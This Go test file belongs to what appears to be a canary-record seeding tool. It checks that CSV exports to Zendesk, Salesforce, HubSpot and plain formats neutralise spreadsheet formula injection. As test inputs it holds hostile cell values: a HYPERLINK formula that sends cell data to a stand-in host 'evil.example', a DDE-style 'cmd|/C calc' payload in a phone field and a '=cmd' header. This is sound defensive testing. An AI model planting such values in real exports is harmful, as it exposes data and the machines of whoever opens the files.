package plant

import (
	"bytes"
	"encoding/csv"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/honeyseed/honeyseed/canary"
	"github.com/honeyseed/honeyseed/canary/canarytest"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// csvSeeds are deterministic seeds for the golden files: canarytest's, with
// fields, an accented name, a GB number, a seed without a phone, and field
// values a spreadsheet would run as formulas.
func csvSeeds() []canary.Seed {
	seeds := make([]canary.Seed, 5)
	for i := range seeds {
		seeds[i] = canarytest.Seed(i+1, "export/2026-11-crm")
		seeds[i].Fields = map[string]string{"city": "Leeds", "company": "Harbour Logistics", "postcode": "LS1 4AP"}
	}
	seeds[1].Name = canary.Name{Given: "José", Family: "García López"}
	seeds[1].Phone = "+447700900123"
	seeds[2].Phone = ""
	seeds[3].Fields["company"] = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	seeds[4].Fields["city"] = "@SUM(1+1)"
	seeds[4].Fields["company"] = `Smith, "Jones" & Co`
	return seeds
}

func TestWriteCSVGolden(t *testing.T) {
	for _, tc := range []struct {
		file   string
		format CSVFormat
		opts   CSVOptions
	}{
		{"zendesk.csv", CSVZendesk, CSVOptions{}},
		{"zendesk_fields.csv", CSVZendesk, CSVOptions{Fields: []string{"company", "city"}, TicketColumn: "external_id"}},
		{"salesforce.csv", CSVSalesforce, CSVOptions{Fields: []string{"company", "city", "postcode"}}},
		{"hubspot.csv", CSVHubSpot, CSVOptions{Fields: []string{"company", "city", "postcode"}, CRLF: true}},
		{"plain.csv", CSVPlain, CSVOptions{Fields: []string{"city", "company"}, PhoneFormat: International}},
	} {
		t.Run(tc.file, func(t *testing.T) {
			var b bytes.Buffer
			require.NoError(t, WriteCSV(&b, tc.format, csvSeeds(), tc.opts))
			path := filepath.Join("testdata", tc.file)
			if *update {
				require.NoError(t, os.WriteFile(path, b.Bytes(), 0o644))
			}
			want, err := os.ReadFile(path)
			require.NoError(t, err, "run go test -update to create it")
			assert.Equal(t, string(want), b.String())

			// The file parses back, one record per seed, every cell defused.
			recs, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
			require.NoError(t, err)
			require.Len(t, recs, len(csvSeeds())+1)
			for _, rec := range recs[1:] {
				for i, cell := range rec {
					if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
						assert.True(t, isPhoneHeader(recs[0][i]), "cell %q of column %q is live", cell, recs[0][i])
					}
				}
			}
		})
	}
}

func isPhoneHeader(h string) bool {
	return h == "phone" || h == "Business Phone" || h == "Phone Number"
}

func TestFormulaGuard(t *testing.T) {
	for _, tc := range []struct {
		in, want string
		why      string
	}{
		{"=1+1", "'=1+1", "a formula"},
		{"+1", "'+1", "plus starts a formula too"},
		{"-2", "'-2", "and minus"},
		{"@SUM(A1)", "'@SUM(A1)", "and at"},
		{"  =1", "'  =1", "leading spaces do not hide it"},
		{"\t=1", "'\t=1", "a tab is on OWASP's list"},
		{"\r=1", "'\r=1", "and a carriage return"},
		{"\n=1", "'\n=1", "a line feed: the cell's first line is empty, the formula on the next"},
		{"\r\n@A1", "'\r\n@A1", "a CRLF"},
		{"\v=1", "'\v=1", "a vertical tab"},
		{"\f=1", "'\f=1", "a form feed"},
		{"\x00=1", "'\x00=1", "a NUL, which some importers drop"},
		{"\u00a0=1", "'\u00a0=1", "a no-break space, which spreadsheets trim"},
		{"\u2003=1", "'\u2003=1", "an em space"},
		{"\u2009+1", "'\u2009+1", "a thin space"},
		{"\u3000=1", "'\u3000=1", "an ideographic space"},
		{"\u2028=1", "'\u2028=1", "a line separator"},
		{"\u0085=1", "'\u0085=1", "a next-line control"},
		{"\ufeff=1", "'\ufeff=1", "a byte-order mark, which Excel strips from the first cell"},
		{"\u200b=1", "'\u200b=1", "a zero-width space"},
		{" \u00a0 =1", "' \u00a0 =1", "spaces of both kinds mixed"},
		{"\u00a0Leeds", "'\u00a0Leeds", "an invisible start is guarded whatever follows: it may hide more than a formula"},
		{"\uff1dSUM(A1)", "'\uff1dSUM(A1)", "a full-width equals sign, which spreadsheets fold to '='"},
		{"\uff0b1", "'\uff0b1", "a full-width plus"},
		{"\uff0d1", "'\uff0d1", "a full-width hyphen-minus"},
		{"\uff20SUM(A1)", "'\uff20SUM(A1)", "a full-width at"},
		{"\ufe66A1", "'\ufe66A1", "a small equals sign"},
		{"\ufe62A1", "'\ufe62A1", "a small plus"},
		{"\ufe63A1", "'\ufe63A1", "a small hyphen-minus"},
		{"\u22121", "'\u22121", "a minus sign"},
		{"\u3000\uff1d1", "'\u3000\uff1d1", "an ideographic space before a full-width equals"},
		{"Leeds", "Leeds", "plain text is left alone"},
		{"Zoë Müller", "Zoë Müller", "letters beyond ASCII are plain text"},
		{"東京", "東京", "and so are CJK letters"},
		{"A=1", "A=1", "a formula character inside a cell is harmless"},
		{"   ", "   ", "spaces alone"},
		{"O'Brien", "O'Brien", "an apostrophe inside is fine"},
		{"", "", "empty"},
	} {
		got, err := guard(tc.in, false)
		require.NoError(t, err)
		assert.Equal(t, tc.want, got, tc.why)
	}
	got, err := guard("+1 415-555-0132", true)
	require.NoError(t, err)
	assert.Equal(t, "+1 415-555-0132", got, "a phone keeps its plus")
	_, err = guard("+1+cmd|'/C calc'!A0", true)
	assert.ErrorIs(t, err, ErrInvalidInput, "a phone cell with anything but digits and punctuation is refused")
}

func TestWriteCSVBadInput(t *testing.T) {
	for _, tc := range []struct {
		format CSVFormat
		opts   CSVOptions
		why    string
	}{
		{0, CSVOptions{}, "no format"},
		{CSVZendesk, CSVOptions{Fields: []string{"postcode"}}, "Zendesk has no postcode column"},
		{CSVHubSpot, CSVOptions{Fields: []string{"shoe_size"}}, "not a seed field"},
		{CSVSalesforce, CSVOptions{TicketColumn: "=cmd"}, "a header that is a formula"},
		{CSVSalesforce, CSVOptions{TicketColumn: "Email"}, "a header given twice"},
		{CSVPlain, CSVOptions{PhoneFormat: "(NNN) NNN-NNNN"}, "a GB number in a US pattern"},
		{CSVPlain, CSVOptions{PhoneFormat: "phone"}, "not a phone format"},
	} {
		var b bytes.Buffer
		err := WriteCSV(&b, tc.format, csvSeeds(), tc.opts)
		assert.True(t, errors.Is(err, ErrInvalidInput) || errors.Is(err, ErrValueDoesNotFit), "%s: %v", tc.why, err)
		assert.Zero(t, b.Len(), "%s: nothing written", tc.why)
	}
}

func TestCSVFormatNames(t *testing.T) {
	for _, f := range []CSVFormat{CSVZendesk, CSVSalesforce, CSVHubSpot, CSVPlain} {
		text, err := f.MarshalText()
		require.NoError(t, err)
		var back CSVFormat
		require.NoError(t, back.UnmarshalText(text))
		assert.Equal(t, f, back)
		got, err := ParseCSVFormat(" " + strings.ToUpper(f.String()) + " ")
		require.NoError(t, err)
		assert.Equal(t, f, got)
	}
	_, err := ParseCSVFormat("freshdesk")
	assert.ErrorIs(t, err, ErrInvalidInput)
	_, err = CSVFormat(9).MarshalText()
	assert.ErrorIs(t, err, ErrInvalidInput)
}

// FuzzParseCSVFormat: format names come from command lines and config files.
func FuzzParseCSVFormat(f *testing.F) {
	for _, s := range []string{"zendesk", "Salesforce", " hubspot ", "plain", "", "zendesk\x00", strings.Repeat("z", 100)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, name string) {
		got, err := ParseCSVFormat(name)
		if err != nil {
			if !errors.Is(err, ErrInvalidInput) || len(err.Error()) > 300 {
				t.Fatalf("ParseCSVFormat(%q): %v", name, err)
			}
			return
		}
		if !strings.EqualFold(strings.TrimSpace(name), got.String()) {
			t.Fatalf("ParseCSVFormat(%q) = %v", name, got)
		}
	})
}

func TestWriteCSVPlainCreatedAt(t *testing.T) {
	s := csvSeeds()[0]
	s.CreatedAt = time.Date(2025, 3, 1, 9, 30, 0, 0, time.FixedZone("CET", 3600))
	var b bytes.Buffer
	require.NoError(t, WriteCSV(&b, CSVPlain, []canary.Seed{s}, CSVOptions{}))
	assert.Contains(t, b.String(), ",2025-03-01T08:30:00Z\n", "RFC 3339 in UTC")
}
